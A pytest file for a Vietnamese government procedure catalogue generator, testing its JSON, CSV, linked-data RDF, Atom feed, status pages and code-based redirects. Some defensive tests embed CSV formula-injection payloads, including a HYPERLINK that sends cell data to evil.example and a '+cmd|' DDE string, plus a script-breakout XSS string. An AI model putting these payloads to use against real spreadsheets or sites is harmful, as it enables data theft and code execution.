"""Open data, linked data, recent changes and stable addresses: each file read back as its users read it.

The JSON against the published JSON Schema (jsonschema), the CSV as a spreadsheet reads it, the page's
schema.org data, CPSV-AP and DCAT as RDF (rdflib), the Atom feed with a feed reader's parser (feedparser).
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from datetime import date
from pathlib import Path
from typing import Any

import feedparser
import jsonschema
import pytest
import rdflib
from referencing import Registry, Resource

from generator.data.linkeddata import LifeEvent, cpsv_ap
from generator.html.csp import inline_scripts, secure_page
from generator.load.catalogue import load_catalogue
from generator.load.texts import load_texts
from generator.model.catalogue import Catalogue
from generator.model.texts import Texts
from generator.problems import CatalogueError
from generator.render import Content
from generator.web.pages import docs_tree

from ..conftest import BASE, ROOT, MakeProject

pytestmark = pytest.mark.filterwarnings("ignore:ConjunctiveGraph is deprecated:DeprecationWarning")

TODAY = date(2026, 11, 30)
SITE = "https://thutuc.thunghiem.gov.vn/"
CPSV = rdflib.Namespace("http://purl.org/vocab/cpsv#")
CV = rdflib.Namespace("http://data.europa.eu/m8g/")
DCAT = rdflib.Namespace("http://www.w3.org/ns/dcat#")
DCT = rdflib.namespace.DCTERMS
SCHEMA = rdflib.Namespace("https://schema.org/")

# A procedure replaced by the base record (1.004194), and one abolished outright: the household book
# (sổ hộ khẩu) ended on 1 January 2023 under the Law on Residence 2020. Codes are examples.
REPLACED = """\
code: "1.000999"
title: Đăng ký tạm trú (thủ tục cũ)
field: Đăng ký, quản lý cư trú
agency: Công an cấp xã
levels: [xa]
applicants: [Công dân Việt Nam]
online: none
steps: [Nộp hồ sơ tại Công an cấp xã.]
channels:
  - method: in_person
    time: {value: 3, unit: days}
    fees: [{name: Lệ phí, amount: 15000}]
documents:
  - items: [{name: Bản khai nhân khẩu, originals: 1}]
results: [Sổ tạm trú]
legal_basis: [{number: 81/2006/QH11, title: Luật Cư trú}]
updated: 2025-07-01
replaced_by: "1.004194"
status_date: 2025-07-01
change_note: Thay bằng thủ tục đăng ký tạm trú theo Luật Cư trú 2020
"""
ABOLISHED = """\
code: "1.000888"
title: Cấp sổ hộ khẩu
field: Đăng ký, quản lý cư trú
agency: Công an cấp xã
levels: [xa]
applicants: [Công dân Việt Nam]
online: none
steps: [Nộp hồ sơ tại Công an cấp xã.]
channels:
  - method: in_person
    time: {text: Theo quy định}
documents:
  - items: [{name: "Phiếu báo thay đổi hộ khẩu, nhân khẩu", originals: 1}]
results: [Sổ hộ khẩu]
legal_basis: [{number: 68/2020/QH14, title: Luật Cư trú}]
updated: 2023-01-01
status: abolished
status_date: 2023-01-01
"""


def _with_site_url() -> str:
    return (BASE / "mkdocs.yml").read_text(encoding="utf-8") + f"site_url: {SITE}\n"


EXTRA = {
    "mkdocs.yml": _with_site_url(),
    "procedures/dang-ky-tam-tru-cu.yaml": REPLACED,
    "procedures/cap-so-ho-khau.yaml": ABOLISHED,
}


@pytest.fixture
def project(make_project: MakeProject) -> Path:
    return make_project(EXTRA)


def _build(project: Path) -> tuple[Catalogue, Texts, dict[str, Content]]:
    catalogue = load_catalogue(project, TODAY)
    texts = load_texts(project / "templates")
    return catalogue, texts, docs_tree(catalogue, texts)


def _text(tree: dict[str, Content], path: str) -> str:
    content = tree[path]
    assert isinstance(content, str)
    return content


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Catalogue, Texts, dict[str, Content]]:
    """The catalogue with a replaced and an abolished procedure, built once for the module's read-only tests."""
    project = tmp_path_factory.mktemp("opendata") / "project"
    shutil.copytree(BASE, project)
    shutil.copytree(ROOT / "templates", project / "templates")
    for name, content in EXTRA.items():
        (project / name).write_text(content, encoding="utf-8")
    return _build(project)


# -- JSON ---------------------------------------------------------------------------


def test_json_is_valid_against_the_published_schemas(built: tuple[Catalogue, Texts, dict[str, Content]]) -> None:
    catalogue, _, tree = built
    data = json.loads(_text(tree, "du-lieu/thu-tuc.json"))
    procedure_schema = json.loads(_text(tree, "schema/procedure.schema.json"))
    file_schema = json.loads(_text(tree, "du-lieu/thu-tuc.schema.json"))
    registry: Registry[Any] = Registry().with_resources(
        (schema["$id"], Resource.from_contents(schema)) for schema in (procedure_schema, file_schema)
    )
    checker = jsonschema.Draft202012Validator.FORMAT_CHECKER
    jsonschema.Draft202012Validator(file_schema, registry=registry, format_checker=checker).validate(data)
    for item in data["procedures"]:
        jsonschema.Draft202012Validator(procedure_schema, format_checker=checker).validate(item["record"])
    assert data["count"] == len(data["procedures"]) == len(catalogue.procedures) == 3
    assert [item["record"]["code"] for item in data["procedures"]] == ["1.000888", "1.000999", "1.004194"]
    current = data["procedures"][2]
    assert current["url"] == SITE + "thu-tuc/dang-ky-tam-tru/"
    assert current["code_url"] == SITE + "ma/1.004194/"
    assert current["status"] == "active"
    assert current["record"]["channels"][0]["time"] == {"value": 3, "unit": "working_days"}
    assert current["record"]["channels"][0]["fees"][0]["amount"] == 7000
    assert current["record"]["updated"] == "2026-11-20"
    assert [item["status"] for item in data["procedures"][:2]] == ["abolished", "replaced"]
    assert data["licence"]["url"].startswith("https://creativecommons.org/licenses/by/4.0/")


def test_a_record_the_schema_refuses_is_refused(built: tuple[Catalogue, Texts, dict[str, Content]]) -> None:
    _, _, tree = built
    procedure_schema = json.loads(_text(tree, "schema/procedure.schema.json"))
    record = json.loads(_text(tree, "du-lieu/thu-tuc.json"))["procedures"][2]["record"]
    record["channels"][0]["fees"][0]["amount"] = "7.000"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.Draft202012Validator(procedure_schema).validate(record)


# -- CSV ----------------------------------------------------------------------------


def _csv_rows(tree: dict[str, Content]) -> list[list[str]]:
    raw = _text(tree, "du-lieu/thu-tuc.csv").encode("utf-8")
    assert raw.startswith(b"\xef\xbb\xbf"), "a spreadsheet reads UTF-8 only with the BOM"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_csv_has_a_header_and_one_row_per_procedure(built: tuple[Catalogue, Texts, dict[str, Content]]) -> None:
    catalogue, _, tree = built
    rows = _csv_rows(tree)
    assert rows[0] == [
        "Mã thủ tục",
        "Tên thủ tục",
        "Lĩnh vực",
        "Cơ quan thực hiện",
        "Cấp thực hiện",
        "Dịch vụ công trực tuyến",
        "Thời hạn giải quyết",
        "Phí, lệ phí",
        "Tình trạng",
        "Địa chỉ trang",
    ]
    assert len(rows) == 1 + len(catalogue.procedures)
    assert all(len(row) == 10 for row in rows)
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code["1.004194"] == [
        "1.004194",
        "Đăng ký tạm trú",
        "Đăng ký, quản lý cư trú",
        "Công an cấp xã",
        "cấp xã",
        "Nộp trực tuyến một phần",
        "Trực tuyến: 3 ngày làm việc; Trực tiếp: 3 ngày làm việc",
        "Trực tuyến: 7.000 đồng; Trực tiếp: 10.000 đồng",
        "Đang áp dụng",
        SITE + "thu-tuc/dang-ky-tam-tru/",
    ]
    assert by_code["1.000888"][8] == "Đã bãi bỏ từ ngày 01/01/2023"
    assert by_code["1.000999"][8] == "Được thay thế bằng thủ tục 1.004194 từ ngày 01/07/2025"
    assert "\r\n" in _text(tree, "du-lieu/thu-tuc.csv")


def test_csv_cells_never_start_a_formula(make_project: MakeProject) -> None:
    record = ABOLISHED.replace("title: Cấp sổ hộ khẩu", 'title: "=HYPERLINK(\\"https://evil.example\\")"')
    record = record.replace("agency: Công an cấp xã", "agency: '@SUM(1+1)'")
    _, _, tree = _build(make_project({"procedures/cap-so-ho-khau.yaml": record}))
    row = next(row for row in _csv_rows(tree) if row[0] == "1.000888")
    assert row[1] == '\'=HYPERLINK("https://evil.example")'
    assert row[3] == "'@SUM(1+1)"


FORMULAS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def test_csv_cells_start_no_formula_in_any_locale(make_project: MakeProject) -> None:
    """Vietnamese Windows splits CSV on ";": a formula after a ";" inside a cell must not start a cell there."""
    title = 'Tách hộ;=HYPERLINK(\\"https://evil.example/?\\"&A1);\\t+cmd|x!A0 | -1+1, ＝1+1; \\"@SUM(1)'
    record = ABOLISHED.replace("title: Cấp sổ hộ khẩu", f'title: "{title}"')
    _, _, tree = _build(make_project({"procedures/cap-so-ho-khau.yaml": record}))
    raw = _text(tree, "du-lieu/thu-tuc.csv").removeprefix("\ufeff")
    for line in raw.split("\r\n")[:-1]:
        assert line.startswith('"') and line.endswith('"'), line  # every cell quoted
    for separator in (",", ";", "\t", "|"):
        for row in csv.reader(io.StringIO(raw, newline=""), delimiter=separator):
            for cell in row:
                assert not cell.lstrip(' "').startswith(FORMULAS), (separator, cell)
    row = next(row for row in _csv_rows(tree) if row[0] == "1.000888")
    assert row[1].startswith("Tách hộ;'=HYPERLINK(")  # shown as typed, but for the apostrophes


# -- schema.org in the page --------------------------------------------------------------


def _json_ld(page: str) -> list[str]:
    return re.findall(r'<script type="application/ld\+json">(.*?)</script>', page, re.DOTALL)


def test_procedure_page_carries_a_government_service(built: tuple[Catalogue, Texts, dict[str, Content]]) -> None:
    _, _, tree = built
    page = _text(tree, "thu-tuc/dang-ky-tam-tru/index.md")
    [block] = _json_ld(page)
    data = json.loads(block)
    assert data["@type"] == "GovernmentService"
    assert data["name"] == "Đăng ký tạm trú" and data["identifier"] == "1.004194"
    assert data["provider"] == {"@type": "GovernmentOrganization", "name": "Công an cấp xã"}
    assert data["areaServed"]["name"] == "Việt Nam"
    assert data["serviceOutput"] == [{"@type": "Thing", "name": "Cập nhật thông tin về cư trú"}]
    assert [(o["price"], o["priceCurrency"], o["description"]) for o in data["offers"]] == [
        (7000, "VND", "Trực tuyến"),
        (10000, "VND", "Trực tiếp"),
    ]
    channels = data["availableChannel"]
    assert [c["name"] for c in channels] == ["Trực tuyến", "Trực tiếp"]
    assert channels[0]["serviceUrl"].startswith("https://dichvucong.gov.vn/")
    assert channels[1]["serviceLocation"]["name"] == "Công an cấp xã"
    # Read as RDF, with schema.org's terms (its context file is not fetched).
    local = block.replace('"@context":"https://schema.org"', '"@context":{"@vocab":"https://schema.org/"}')
    graph = rdflib.Graph().parse(data=local, format="json-ld")
    service = rdflib.URIRef(SITE + "thu-tuc/dang-ky-tam-tru/#dich-vu")
    assert (service, rdflib.RDF.type, SCHEMA.GovernmentService) in graph
    assert len(list(graph.objects(service, SCHEMA.availableChannel))) == 2


def test_json_ld_is_data_the_security_policy_leaves_alone(
    built: tuple[Catalogue, Texts, dict[str, Content]],
) -> None:
    _, _, tree = built
    page = _text(tree, "thu-tuc/dang-ky-tam-tru/index.md")
    assert list(inline_scripts(page)) == [], "a data block is not a script the policy must allow"
    secured, blocked = secure_page(f"<html><head><meta charset='utf-8'></head><body>{page}</body></html>", ())
    assert blocked == []
    assert "'sha256-" not in secured


def test_json_ld_cannot_close_its_script_element(make_project: MakeProject) -> None:
    title = "Xe tải trọng < 5 tấn </script><script>alert(1)</script> & rơ-moóc"
    project = make_project(
        {
            "procedures/dang-ky-tam-tru.yaml": (BASE / "procedures/dang-ky-tam-tru.yaml")
            .read_text(encoding="utf-8")
            .replace("title: Đăng ký tạm trú", f"title: '{title}'")
        }
    )
    _, _, tree = _build(project)
    [block] = _json_ld(_text(tree, "thu-tuc/dang-ky-tam-tru/index.md"))
    assert "<" not in block and ">" not in block and "&" not in block
    assert json.loads(block)["name"] == title


# -- CPSV-AP and DCAT as RDF -----------------------------------------------------------


def _graph(text: str) -> rdflib.Graph:
    return rdflib.Graph().parse(data=text, format="json-ld")


def test_cpsv_ap_reads_as_rdf_with_every_part_of_a_service(
    built: tuple[Catalogue, Texts, dict[str, Content]],
) -> None:
    catalogue, _, tree = built
    graph = _graph(_text(tree, "du-lieu/cpsv-ap.jsonld"))
    services = set(graph.subjects(rdflib.RDF.type, CPSV.PublicService))
    assert len(services) == len(catalogue.procedures)
    service = rdflib.URIRef(SITE + "thu-tuc/dang-ky-tam-tru/#dich-vu")
    assert graph.value(service, DCT.identifier) == rdflib.Literal("1.004194")
    assert graph.value(service, DCT.title) == rdflib.Literal("Đăng ký tạm trú", lang="vi")
    costs = list(graph.objects(service, CV.hasCost))
    values = sorted(float(str(graph.value(cost, CV.hasValue))) for cost in costs)
    assert values == [7000.0, 10000.0]
    assert {graph.value(cost, CV.currency) for cost in costs} == {
        rdflib.URIRef("http://publications.europa.eu/resource/authority/currency/VND")
    }
    channels = list(graph.objects(service, CV.hasChannel))
    assert len(channels) == 2 and all((c, rdflib.RDF.type, CV.Channel) in graph for c in channels)
    for cost in costs:
        assert graph.value(cost, CV.ifAccessedThrough) in channels
    evidence = list(graph.objects(service, CPSV.hasInput))
    assert {str(graph.value(e, DCT.title)) for e in evidence} == {
        "Tờ khai thay đổi thông tin cư trú",
        "Giấy tờ chứng minh chỗ ở hợp pháp",
    }
    assert all((e, rdflib.RDF.type, CV.Evidence) in graph for e in evidence)
    [output] = graph.objects(service, CPSV.produces)
    assert (output, rdflib.RDF.type, CV.Output) in graph
    authority = graph.value(service, CV.hasCompetentAuthority)
    assert (authority, rdflib.RDF.type, CV.PublicOrganisation) in graph
    old = rdflib.URIRef(SITE + "thu-tuc/dang-ky-tam-tru-cu/#dich-vu")
    assert graph.value(old, DCT.isReplacedBy) == service
    days = next(c for c in graph.objects(old, CV.hasChannel))
    assert str(graph.value(days, CV.processingTime)) == "P3D"


def test_cpsv_ap_takes_life_events(built: tuple[Catalogue, Texts, dict[str, Content]]) -> None:
    catalogue, texts, _ = built
    event = LifeEvent("su-kien/chuyen-noi-o/", "Chuyển nơi ở", "Những việc cần làm khi chuyển nhà.", ("1.004194",))
    graph = _graph(cpsv_ap(catalogue, texts, [event]))
    node = rdflib.URIRef(SITE + "su-kien/chuyen-noi-o/")
    service = rdflib.URIRef(SITE + "thu-tuc/dang-ky-tam-tru/#dich-vu")
    assert (node, rdflib.RDF.type, CV.LifeEvent) in graph
    assert (node, CV.hasRelatedService, service) in graph
    assert (service, CV.isGroupedBy, node) in graph


def test_the_sample_journeys_are_life_events_of_the_catalogue() -> None:
    catalogue = load_catalogue(ROOT, TODAY)
    tree = docs_tree(catalogue, load_texts(ROOT / "templates"))
    graph = _graph(_text(tree, "du-lieu/cpsv-ap.jsonld"))
    events = set(graph.subjects(rdflib.RDF.type, CV.LifeEvent))
    assert len(events) == len(catalogue.journeys) >= 2
    for journey in catalogue.journeys:
        codes = [option.procedure for _, _, option in journey.procedures()]
        node = next(e for e in events if str(e).endswith(f"su-kien/{journey.slug}/"))
        assert str(graph.value(node, DCT.title)) == journey.title
        related = {str(graph.value(s, DCT.identifier)) for s in graph.objects(node, CV.hasRelatedService)}
        assert related == set(codes)


def test_dcat_describes_each_file_with_its_size_and_licence(
    built: tuple[Catalogue, Texts, dict[str, Content]],
) -> None:
    _, _, tree = built
    graph = _graph(_text(tree, "du-lieu/dcat.jsonld"))
    [dataset] = graph.subjects(rdflib.RDF.type, DCAT.Dataset)
    [catalog] = graph.subjects(rdflib.RDF.type, DCAT.Catalog)
    assert (catalog, DCAT.dataset, dataset) in graph
    assert str(graph.value(dataset, DCT.license)).startswith("https://creativecommons.org/licenses/by/4.0/")
    files = {str(graph.value(d, DCAT.downloadURL)): d for d in graph.objects(dataset, DCAT.distribution)}
    assert set(files) == {SITE + "du-lieu/thu-tuc.csv", SITE + "du-lieu/thu-tuc.json", SITE + "du-lieu/cpsv-ap.jsonld"}
    for url, distribution in files.items():
        size = int(str(graph.value(distribution, DCAT.byteSize)))
        assert size == len(_text(tree, url.removeprefix(SITE)).encode("utf-8"))


# -- recent changes and the feed ------------------------------------------------------------


def test_atom_feed_reads_in_a_feed_reader(built: tuple[Catalogue, Texts, dict[str, Content]]) -> None:
    _, _, tree = built
    feed = feedparser.parse(_text(tree, "thay-doi/atom.xml"))
    assert not feed.bozo, feed.get("bozo_exception")
    assert feed.version == "atom10"
    assert feed.feed.link == SITE + "thay-doi/"
    assert [e.title for e in feed.entries] == [
        "Cập nhật: Đăng ký tạm trú",
        "Được thay thế: Đăng ký tạm trú (thủ tục cũ)",
        "Bãi bỏ: Cấp sổ hộ khẩu",
    ]
    assert [e.link for e in feed.entries] == [
        SITE + "thu-tuc/dang-ky-tam-tru/",
        SITE + "thu-tuc/dang-ky-tam-tru-cu/",
        SITE + "thu-tuc/cap-so-ho-khau/",
    ]
    assert feed.entries[0].id == "tag:thutuc.thunghiem.gov.vn,2026-11-20:thu-tuc/1.004194"
    assert "Thay bằng: Đăng ký tạm trú (1.004194)" in feed.entries[1].summary
    assert feed.entries[0].updated == "2026-11-20T00:00:00+07:00"


def test_feed_entry_ids_stay_when_other_records_change(project: Path) -> None:
    _, _, first = _build(project)
    record = project / "procedures/dang-ky-tam-tru.yaml"
    record.write_text(record.read_text(encoding="utf-8").replace("updated: 2026-11-20", "updated: 2026-11-25"))
    _, _, second = _build(project)
    ids = [feedparser.parse(_text(tree, "thay-doi/atom.xml")).entries for tree in (first, second)]
    assert ids[0][1].id == ids[1][1].id and ids[0][2].id == ids[1][2].id
    assert ids[1][0].id == "tag:thutuc.thunghiem.gov.vn,2026-11-25:thu-tuc/1.004194" != ids[0][0].id


def test_changes_page_says_what_kind_of_change(built: tuple[Catalogue, Texts, dict[str, Content]]) -> None:
    _, _, tree = built
    page = _text(tree, "thay-doi/index.md")
    kinds = re.findall(r'tt-badge--(\w+)">([^<]+)<', page)
    assert kinds == [("changed", "Cập nhật"), ("replaced", "Được thay thế"), ("abolished", "Bãi bỏ")]
    assert 'href="../thu-tuc/dang-ky-tam-tru/">Đăng ký tạm trú</a> (1.004194)' in page
    assert 'href="atom.xml" type="application/atom+xml"' in page


def test_a_new_procedure_is_marked_new(make_project: MakeProject) -> None:
    record = (BASE / "procedures/dang-ky-tam-tru.yaml").read_text(encoding="utf-8") + "effective_from: 2026-10-01\n"
    _, _, tree = _build(make_project({"procedures/dang-ky-tam-tru.yaml": record}))
    page = _text(tree, "thay-doi/index.md")
    assert 'tt-badge--new">Mới<' in page and "Có hiệu lực từ ngày 01/10/2026." in page


def test_without_the_site_address_there_is_no_feed(make_project: MakeProject) -> None:
    _, _, tree = _build(make_project())
    assert "thay-doi/atom.xml" not in tree
    assert "atom.xml" not in _text(tree, "thay-doi/index.md")
    assert json.loads(_text(tree, "du-lieu/thu-tuc.json"))["procedures"][0]["url"] == "/thu-tuc/dang-ky-tam-tru/"


# -- status: the page stays, the lists forget it ----------------------------------------------


def test_abolished_page_stays_with_a_notice_and_no_way_to_apply(
    built: tuple[Catalogue, Texts, dict[str, Content]],
) -> None:
    _, _, tree = built
    page = _text(tree, "thu-tuc/cap-so-ho-khau/index.md")
    assert "Thủ tục này đã bị bãi bỏ từ ngày 01/01/2023." in page
    assert "md-button--primary" not in page and 'id="cach-nop"' not in page
    assert _json_ld(page) == []
    replaced = _text(tree, "thu-tuc/dang-ky-tam-tru-cu/index.md")
    assert "Thủ tục này đã được thay thế từ ngày 01/07/2025." in replaced
    assert 'Thủ tục thay thế: <a href="../dang-ky-tam-tru/">Đăng ký tạm trú</a>' in replaced


def test_withdrawn_procedures_leave_lists_search_and_guides(
    built: tuple[Catalogue, Texts, dict[str, Content]],
) -> None:
    catalogue, _, tree = built
    assert [p.code for p in catalogue.current] == ["1.004194"]
    field_list = _text(tree, "linh-vuc/dang-ky-quan-ly-cu-tru/index.md")
    assert "Đăng ký tạm trú" in field_list
    assert "Cấp sổ hộ khẩu" not in field_list and "thủ tục cũ" not in field_list
    assert "Cấp sổ hộ khẩu" not in _text(tree, "a-z/index.md") + _text(tree, "cap/xa/index.md")
    search = "".join(_text(tree, path) for path in tree if path.startswith("search/docs."))
    assert "1.004194" in search and "1.000888" not in search and "1.000999" not in search
    from generator.paper.guides import pdf_jobs
    from generator.pdf.jobs import PrintProfile

    texts = load_texts(catalogue.project / "templates")
    _, assemblies = pdf_jobs(catalogue, texts, PrintProfile("A4", False))
    guides = [assembly.path for assembly in assemblies if "huong-dan" in assembly.path]
    assert guides == ["thu-tuc/dang-ky-tam-tru/huong-dan-dang-ky-tam-tru.pdf"]


def test_an_abolition_to_come_is_announced_and_the_procedure_stays_listed(make_project: MakeProject) -> None:
    record = ABOLISHED.replace("status_date: 2023-01-01", "status_date: 2027-01-01")
    catalogue, _, tree = _build(make_project({"procedures/cap-so-ho-khau.yaml": record}))
    assert "1.000888" in {p.code for p in catalogue.current}
    page = _text(tree, "thu-tuc/cap-so-ho-khau/index.md")
    assert "Thủ tục này sẽ bị bãi bỏ từ ngày 01/01/2027." in page
    assert "Cấp sổ hộ khẩu" in _text(tree, "linh-vuc/dang-ky-quan-ly-cu-tru/index.md")


def test_replacements_that_go_round_in_a_circle_are_refused(make_project: MakeProject) -> None:
    base = (BASE / "procedures/dang-ky-tam-tru.yaml").read_text(encoding="utf-8")
    project = make_project(
        {
            "procedures/dang-ky-tam-tru.yaml": base + 'replaced_by: "1.000999"\nstatus_date: 2025-07-01\n',
            "procedures/dang-ky-tam-tru-cu.yaml": REPLACED,
        }
    )
    with pytest.raises(CatalogueError) as raised:
        load_catalogue(project, TODAY)
    [problem] = raised.value.problems
    assert problem.key == "replaced_by"
    assert problem.message == "goes round in a circle: 1.000999 → 1.004194 → 1.000999"


# -- addresses by code ------------------------------------------------------------------------


def test_every_procedure_has_an_address_by_code(built: tuple[Catalogue, Texts, dict[str, Content]]) -> None:
    catalogue, _, tree = built
    for p in catalogue.procedures:
        page = _text(tree, f"ma/{p.code}/index.html")
        assert f'<meta http-equiv="refresh" content="0; url=../../thu-tuc/{p.slug}/">' in page
        assert f'<link rel="canonical" href="{SITE}thu-tuc/{p.slug}/">' in page
        assert f'<a href="../../thu-tuc/{p.slug}/">{p.title}</a>' in page
        assert '<meta name="robots" content="noindex">' in page
        # The site's icon, so the browser does not ask for a /favicon.ico the site does not have.
        assert '<link rel="icon" href="../../assets/images/favicon.png">' in page
        assert f"ma/{p.code}/index.md" not in tree, "a static file, so the sitemap does not list it"


def test_open_data_page_lists_every_file_with_its_size(built: tuple[Catalogue, Texts, dict[str, Content]]) -> None:
    _, _, tree = built
    page = _text(tree, "du-lieu/index.md")
    for name in ("thu-tuc.csv", "thu-tuc.json", "thu-tuc.schema.json", "cpsv-ap.jsonld", "dcat.jsonld"):
        assert f'href="{name}"' in page
    assert re.search(r"thu-tuc\.csv</a> <span class=\"tt-muted\">\(\d+ KB\)</span>", page)
    assert 'href="https://creativecommons.org/licenses/by/4.0/deed.vi"' in page
    assert 'href="../ma/1.004194/"' in page
    assert "3 thủ tục, cập nhật đến ngày 20/11/2026." in page


def test_same_catalogue_same_bytes(project: Path) -> None:
    first, second = _build(project)[2], _build(project)[2]
    for path in (
        "du-lieu/thu-tuc.json",
        "du-lieu/thu-tuc.csv",
        "du-lieu/cpsv-ap.jsonld",
        "du-lieu/dcat.jsonld",
        "thay-doi/atom.xml",
        "thay-doi/index.md",
        "ma/1.004194/index.html",
    ):
        assert first[path] == second[path], path


def test_sitemap_lists_pages_not_redirects(sample_site: Path) -> None:
    sitemap = (sample_site / "sitemap.xml").read_text(encoding="utf-8")
    assert "/du-lieu/</loc>" in sitemap and "/thay-doi/</loc>" in sitemap
    assert "/ma/" not in sitemap
    assert (sample_site / "ma/1.004222/index.html").is_file()


def test_the_data_says_what_the_page_says_about_coming_in_person() -> None:
    """The ID card's visit is in its open data record, and its online channel says the trip remains."""
    from generator.data.linkeddata import government_service
    from generator.data.opendata import record_data
    from generator.model.schema import json_schemas

    catalogue = load_catalogue(ROOT, TODAY)
    texts = load_texts(ROOT / "templates")
    card = catalogue.by_code["2.000200"]
    record = record_data(card)
    assert [visit["what"] for visit in record["in_person"]] == ["biometrics", "signature"]
    jsonschema.Draft202012Validator(json_schemas()["procedure"]).validate(record)
    [online] = [c for c in government_service(catalogue, texts, card)["availableChannel"] if "serviceUrl" in c]
    assert online["description"].endswith(
        "Nộp trực tuyến không thay được việc đến trực tiếp để thu nhận ảnh khuôn mặt, vân tay, mống mắt; "
        "kiểm tra và ký xác nhận Phiếu thu nhận thông tin căn cước."
    )
    graph = _graph(cpsv_ap(catalogue, texts))
    page = f"{catalogue.site.site_url}thu-tuc/cap-the-can-cuoc-cho-cong-dan-tu-du-14-tuoi-tro-len/"
    service = rdflib.URIRef(page + "#dich-vu")
    said = [str(graph.value(c, DCT.description)) for c in graph.objects(service, CV.hasChannel)]
    assert sum("không thay được việc đến trực tiếp" in text for text in said) == 1, said
